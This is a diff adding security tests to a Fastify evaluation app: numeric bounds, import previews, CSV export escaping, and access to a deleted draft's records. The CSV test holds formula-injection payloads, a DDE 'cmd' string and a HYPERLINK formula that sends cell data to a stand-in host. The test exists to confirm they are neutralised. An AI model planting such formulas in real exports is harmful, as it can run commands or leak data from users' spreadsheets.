@@ -2,13 +2,15 @@
  * Hostile users (issue 24) against the real app on a real SQLite file: the security headers and the
  * CSP on every kind of response, paths that are no route, the password policy, a password change
  * ending the other sessions, the current-password check limited, logins limited per address before per
- * account, and X-Forwarded-For believed only from the named proxies.
+ * account, and X-Forwarded-For believed only from the named proxies; numbers and texts within the
+ * domain's bounds; exports that cannot execute; a deleted draft's records still readable.
  */
-import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Evaluation } from '@jixiao/core';
 import { connect, KyselyAccountStore, KyselyStore } from '@jixiao/store';
 import { buildApp, weakPassword } from '../src/index.ts';
 import { loginAs, TEST_PASSWORD } from './session.ts';
@@ -170,5 +172,103 @@ describe('login limits and proxies', () => {
     for (let i = 0; i < 5; i++) codes.push((await attempt(app, `x${i}`, 'x', '127.0.0.2', { 'x-forwarded-for': `198.51.100.${i}` })).statusCode);
     expect(codes).toEqual([401, 401, 401, 429, 429]);
     await app.close();
+  });
+});
+
+describe('numbers within the domain, at the API edge and in the import', () => {
+  const golden = (f: string) => JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden', f), 'utf8')) as Evaluation;
+  let admin: Awaited<ReturnType<typeof loginAs>>;
+  let dept: number;
+  beforeAll(async () => {
+    admin = await loginAs(server, accounts, { username: 'numbers-admin', role: 'admin' });
+    dept = (await store.ensureDepartment({ code: 'numbers', name: '数值部门' })).id;
+  });
+
+  it('a budget of 1 and 25 zeros, points of 5000, a year of −5 or 99999999, a 10 MB name: 422 with a code and the field; totals still answer', async () => {
+    const ev = golden('hebei-dachang-zhengfawei-2023.form-01.json');
+    const huge = '1' + '0'.repeat(25);
+    const cases: Array<[unknown, string, RegExp]> = [
+      [{ ...ev, budget: { ...ev.budget, lines: [{ ...ev.budget.lines[0]!, adjusted: { raw: huge, value: huge } }] } }, 'VALUE.OUT_OF_RANGE', /^evaluation\.budget\.lines\.0\.adjusted\.value$/],
+      [{ ...ev, indicators: [{ ...ev.indicators[0]!, points: { raw: '5000', value: '5000' } }] }, 'VALUE.OUT_OF_RANGE', /^evaluation\.indicators\.0\.points\.value$/],
+      [{ ...ev, year: -5 }, 'VALUE.OUT_OF_RANGE', /^evaluation\.year$/],
+      [{ ...ev, year: 99_999_999 }, 'VALUE.OUT_OF_RANGE', /^evaluation\.year$/],
+      [{ ...ev, project: { ...ev.project, name: { raw: 'x'.repeat(10 * 1024 * 1024) } } }, 'VALUE.TOO_LONG', /^evaluation\.project\.name\.raw$/],
+    ];
+    for (const [evaluation, code, field] of cases) {
+      const res = await admin.inject({ method: 'POST', url: '/api/evaluations', payload: { departmentId: dept, evaluation } });
+      expect(res.statusCode, code).toBe(422);
+      const body = res.json() as { code: string; message: string; details: { field: string } };
+      expect(body.code).toBe(code);
+      expect(body.details.field).toMatch(field);
+      expect(body.message).toMatch(/[\u4e00-\u9fa5]/);
+    }
+    expect(await store.listEvaluations({ departmentId: dept })).toEqual([]);
+    expect((await admin.inject('/api/departments/totals')).statusCode).toBe(200);
+  });
+
+  it('a million-digit value in POST /api/score is refused at once, before any arithmetic', async () => {
+    const ev = golden('hebei-dachang-zhengfawei-2023.form-01.json');
+    const huge = '9'.repeat(1_000_000);
+    const t0 = performance.now();
+    const res = await admin.inject({ method: 'POST', url: '/api/score', payload: { evaluation: { ...ev, claimed: { total: { raw: '很大', value: huge } } } } });
+    const ms = performance.now() - t0;
+    expect(res.statusCode).toBe(422);
+    expect(res.json()).toMatchObject({ code: 'VALUE.OUT_OF_RANGE', details: { field: 'evaluation.claimed.total.value' } });
+    expect(ms).toBeLessThan(1000);
+  });
+
+  it('an imported figure out of range is a note of the preview, not a stored number; money stays exact on save', async () => {
+    const seed = readFileSync(join(import.meta.dirname, '../../../fixtures/seeds/xinjiang-changji-zhengfawei-2021.txt'), 'utf8').split('\n');
+    // the first form's 年度资金总额: 全年预算数 and 全年执行数
+    expect(seed[26]).toBe('\t100.00');
+    seed[26] = '\t10000000000000';
+    seed[27] = '\t1' + '0'.repeat(25);
+    const boundary = '----b' + Date.now();
+    const payload = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n`), Buffer.from(seed.join('\n')), Buffer.from(`\r\n--${boundary}--\r\n`)]);
+    const preview = await admin.inject({ method: 'POST', url: '/api/import', payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
+    expect(preview.statusCode).toBe(200);
+    const body = preview.json() as { token: string; files: Array<{ notes: Array<{ code: string; message: string }> }> };
+    const notes = body.files[0]!.notes.filter((n) => n.code === 'IMPORT.VALUE_OUT_OF_RANGE');
+    expect(notes.map((n) => n.message)).toEqual([expect.stringContaining('budget.lines[0].adjusted'), expect.stringContaining('budget.lines[0].executed')]);
+    const commit = await admin.inject({ method: 'POST', url: `/api/import/${body.token}/commit`, payload: { departmentId: dept } });
+    expect(commit.statusCode).toBe(201);
+    const stored = await store.listEvaluations({ departmentId: dept });
+    const line = stored[0]!.evaluation.budget.lines[0]!;
+    expect(line.adjusted).toMatchObject({ raw: '10000000000000', value: null });
+    expect(line.executed).toMatchObject({ raw: '1' + '0'.repeat(25), value: null });
+    const totals = await admin.inject('/api/departments/totals');
+    expect(totals.statusCode).toBe(200);
+  });
+});
+
+describe('exports and records', () => {
+  it('history.csv: a name typed as a formula comes out as text', async () => {
+    const admin = await loginAs(server, accounts, { username: 'csv-admin', role: 'admin' });
+    const dept = (await store.ensureDepartment({ code: 'csv', name: 'CSV 部门' })).id;
+    const ev = JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden/hebei-dachang-zhengfawei-2023.form-03.json'), 'utf8')) as Evaluation;
+    const [saved] = await store.importEvaluations({ departmentId: dept, evaluations: [ev], actor: 'csv-admin' });
+    const evil = { ...ev, project: { ...ev.project, name: { raw: "=cmd|' /C calc'!A0" } }, goals: { ...ev.goals, expected: { raw: '=HYPERLINK("http://evil.example/?d="&A1,"点此")' } } };
+    expect((await admin.inject({ method: 'PUT', url: `/api/evaluations/${saved!.id}`, payload: { version: 1, evaluation: evil } })).statusCode).toBe(200);
+    const csv = (await admin.inject(`/api/evaluations/${saved!.id}/history.csv`)).body;
+    expect(csv).toContain(`'=cmd|' /C calc'!A0`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点此"")"`);
+    // no field of any line starts a formula
+    for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-[^\d-]/);
+  });
+
+  it('a deleted draft’s history and snapshots stay readable by its department’s users, and by nobody else', async () => {
+    const dept = (await store.ensureDepartment({ code: 'deleted-drafts', name: '删除部门' })).id;
+    const other = (await store.ensureDepartment({ code: 'other-dept', name: '其他部门' })).id;
+    const filler = await loginAs(server, accounts, { username: 'del-filler', role: 'filler', departmentId: dept });
+    const stranger = await loginAs(server, accounts, { username: 'del-stranger', role: 'filler', departmentId: other });
+    const ev = JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden/hebei-dachang-zhengfawei-2023.form-04.json'), 'utf8')) as Evaluation;
+    const [saved] = await store.importEvaluations({ departmentId: dept, evaluations: [ev], actor: 'del-filler' });
+    expect((await filler.inject({ method: 'DELETE', url: `/api/evaluations/${saved!.id}?version=1` })).statusCode).toBe(204);
+    expect((await filler.inject(`/api/evaluations/${saved!.id}`)).statusCode).toBe(404);
+    for (const path of ['history', 'history.csv', 'snapshots']) {
+      expect((await filler.inject(`/api/evaluations/${saved!.id}/${path}`)).statusCode, path).toBe(200);
+      expect((await stranger.inject(`/api/evaluations/${saved!.id}/${path}`)).statusCode, path).toBe(404);
+    }
+    expect((await filler.inject(`/api/evaluations/${saved!.id}/history.csv`)).body).toContain('(删除)');
   });
 });
